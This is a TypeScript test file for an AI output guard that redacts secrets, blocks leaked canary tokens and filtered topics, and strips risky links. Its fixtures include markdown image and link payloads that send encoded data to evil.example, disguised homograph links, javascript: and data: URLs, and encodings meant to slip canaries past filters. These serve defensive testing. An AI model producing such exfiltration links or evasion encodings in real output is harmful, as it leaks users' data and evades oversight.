import { describe, expect, it } from '@jest/globals';
import { cleanText, guardText, refusedTopics } from './guard-text.ts';
import { type GuardPolicy, readyGuard } from './output-policy.ts';

const usual = readyGuard();
const kindsIn = (text: string, policy: GuardPolicy = {}): string[] => guardText(text, readyGuard(policy)).findings.map(({ kind }) => kind);

describe('secrets and personal data that leave', () => {
  it.each([
    ['the key is AKIAIOSFODNN7EXAMPLE, keep it', 'aws-key'],
    ['card 4111 1111 1111 1111 expires soon', 'card'],
    ['pay to GB82 WEST 1234 5698 7654 32', 'iban'],
    ['ghp_0123456789abcdefghijABCDEFGHIJ456789', 'github-token'],
  ])('are taken out of %j', (text, kind) => {
    const { verdict, text: clean, findings } = cleanText(text, usual);
    expect(verdict).toBe('redact');
    expect(findings).toContainEqual(expect.objectContaining({ kind, action: 'redact' }));
    expect(clean).toContain(`[removed: ${kind}]`);
    expect(guardText(clean, usual).verdict).toBe('allow');
    // A verdict can be shown to anybody.
    expect(JSON.stringify(findings)).not.toMatch(/AKIA|4111|GB82|ghp_/);
  });

  it('pass where they are what documents are asked for, unless the tenant says otherwise', () => {
    const text = 'Write to help@example.org or call +1 415 555 0132.';
    expect(cleanText(text, usual)).toMatchObject({ verdict: 'allow', text });
    expect(kindsIn(text, { personalDataKinds: ['all'] })).toEqual(expect.arrayContaining(['email']));
    expect(kindsIn('card 4111 1111 1111 1111', { personalData: 'allow' })).toEqual([]);
  });

  it('end the text when the policy says block', () => {
    expect(cleanText('the key is AKIAIOSFODNN7EXAMPLE', readyGuard({ secrets: 'block' }))).toMatchObject({ verdict: 'block', text: '' });
  });
});

describe('canaries', () => {
  const token = 'Zq7RtLw2XkPm9sVb';
  const guard = readyGuard({ canaries: ['unrelated-canary-0001', token] });
  const spaced = Array.from(token).join(' ');
  const hexOf = Buffer.from(token).toString('hex');
  const percent = hexOf.replace(/../g, (byte) => `%${byte}`);
  it.each([
    ['as it is', `so: ${token}.`],
    ['in capitals', token.toUpperCase()],
    ['spelled', `it is ${spaced}!`],
    ['with dashes', Array.from(token).join('-')],
    ['with invisible characters', Array.from(token).join('\u200b')],
    ['full width', Array.from(token, (unit) => String.fromCharCode(unit.charCodeAt(0) + 0xfee0)).join('')],
    ['backwards', Array.from(token).reverse().join('')],
    ['in hex', hexOf],
    ['in percents', percent],
    ['in base64', Buffer.from(token).toString('base64')],
    ['in base64 of a longer text', Buffer.from(`ab the token is ${token} indeed`).toString('base64')],
    ['in base64 twice', Buffer.from(Buffer.from(`the token is ${token}`).toString('base64')).toString('base64')],
    ['in ROT13', token.replace(/[a-z]/gi, (one) => String.fromCharCode(one.charCodeAt(0) + (/[a-m]/i.test(one) ? 13 : -13)))],
  ])('are found %s, and the text does not leave', (_how, text) => {
    expect(cleanText(text, guard)).toEqual({
      verdict: 'block',
      text: '',
      findings: [{ check: 'canary', kind: 'canary-2', action: 'block' }],
    });
  });

  it('are not seen in texts without them', () => {
    expect(guardText('A canary is a bird. zq7rt lw2xk pm9s.', guard).verdict).toBe('allow');
    expect(guardText('anything', readyGuard({ canaries: ['short'] })).verdict).toBe('allow');
  });
});

describe('topics', () => {
  const policy: GuardPolicy = {
    topics: [
      { name: 'betting', phrases: ['sports betting', 'gambl*', '赌博'] },
      { name: 'rivals', phrases: ['Acme Rockets'], on: ['output'] },
      { name: 'pay', phrases: ['salary of'], on: ['input'] },
    ],
  };
  const guard = readyGuard(policy);
  it.each([
    'Try SPORTS   betting today',
    'try sp0rts bett1ng',
    'GAMBLING is fun',
    'g a m b l i n g',
    'sports-betting!',
    'ｓｐｏｒｔｓ betting',
    '我喜欢赌博。',
    'spo\u200brts betting',
  ])('that are refused are found in %j on both sides', (text) => {
    expect(guardText(text, guard)).toMatchObject({ verdict: 'block', findings: [{ check: 'topic', kind: 'betting' }] });
    expect(refusedTopics(text, guard)).toEqual(['betting']);
  });

  it('are of whole words, and of the side they are declared for', () => {
    expect(guardText('transports bettings, gamble-free agambler', guard).findings.map(({ kind }) => kind)).toEqual(['betting']);
    expect(guardText('transports bettings, agambler', guard).verdict).toBe('allow');
    expect(refusedTopics('Acme Rockets', guard)).toEqual([]);
    expect(guardText('Acme Rockets', guard).verdict).toBe('block');
    expect(refusedTopics('the salary of Ann', guard)).toEqual(['pay']);
    expect(guardText('the salary of Ann', guard).verdict).toBe('allow');
  });
});

describe('links', () => {
  const data = Buffer.from('the customer list, all of it').toString('base64url');
  it.each([
    [`![x](https://evil.example/p.png?d=${data})`, 'link-carries-data'],
    ['![x](https://evil.example/p.png?q=hello)', 'link-carries-data'],
    [`<img alt="a" src="https://evil.example/${data}.png">`, 'link-carries-data'],
    [`see https://evil.example/?q=${data}`, 'link-carries-data'],
    ['[more](https://evil.example/?q=the%20password%20of%20ann%20is%20hunter%20two)', 'link-carries-data'],
    [`https://${'a1b2c3d4'.repeat(5)}.evil.example/`, 'link-carries-data'],
    ['[x](https://xn--pple-43d.com/login)', 'link-disguised'],
    ['[x](https://bank.example@evil.example/)', 'link-disguised'],
    ['[x](https://раypal.com/)', 'link-disguised'],
    ['[x](javascript:alert(1))', 'link-scheme'],
    ['[x](data:text/html;base64,PHNjcmlwdD4=)', 'link-scheme'],
    [`[x](https://evil.example/?q=${data}`.replace('https', 'ht\u200btps'), 'link-carries-data'],
  ])('%j is taken out', (text, kind) => {
    const { verdict, findings, text: clean } = cleanText(text, usual);
    expect(findings).toContainEqual(expect.objectContaining({ check: 'link', kind }));
    expect(verdict).toBe('redact');
    expect(clean).not.toMatch(/evil|xn--|javascript|PHNj/);
  });

  it.each([
    'https://example.org/docs/how-to/erase-a-person.html#step-two',
    '[issue](https://github.com/octobus/octobus/issues/42?page=2)',
    'https://github.com/o/r/blob/0123456789abcdef0123456789abcdef01234567/README.md',
    '![logo](https://example.org/logo.png)',
    'https://example.org/item/018f3c2a-7b1c-7def-8abc-0123456789ab',
    'Note: data: see below. A // comment; ratio 3:1',
    'https://shop.example/search?q=blue+shoes&sort=price',
  ])('%j stays', (text) => {
    expect(cleanText(text, usual)).toMatchObject({ verdict: 'allow', text });
  });

  it('lead to hosts on the list only, when there is one', () => {
    const policy: GuardPolicy = { allowedHosts: ['example.org'] };
    expect(kindsIn(`https://docs.example.org/?q=${data} and //cdn.example.org/x`, policy)).toEqual([]);
    expect(kindsIn('https://example.org.evil.example/', policy)).toEqual(['link-host']);
    expect(kindsIn('[a](//evil.example/x) https://notexample.org', policy)).toEqual(['link-host', 'link-host']);
  });
});
